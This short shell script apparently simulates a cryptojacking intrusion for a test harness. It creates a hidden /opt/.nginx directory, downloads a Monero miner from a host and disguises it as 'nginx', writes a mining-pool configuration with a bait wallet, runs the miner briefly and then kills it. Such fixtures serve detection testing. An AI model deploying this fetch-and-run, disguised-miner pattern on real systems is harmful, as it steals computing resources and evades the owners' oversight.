#!/bin/sh
. /opt/case/case.sh

n=$(nproc); mkdir -p /opt/.nginx && cd /opt/.nginx
curl -s -o nginx http://203.0.113.10/programs/miner && chmod 755 nginx
cat >config.json <<END
{"autosave":true,"cpu":{"enabled":true,"max-threads-hint":$((n * 50))},"randomx":{"1gb-pages":true},"pools":[{"coin":"monero","url":"203.0.113.10:3333","user":"48baitbaitbaitbaitbaitbaitbaitbaitbaitbait","pass":"x","tls":false,"keepalive":true}]}
END
./nginx & m=$!
sleep 4; kill $m 2>/dev/null || true
took_place
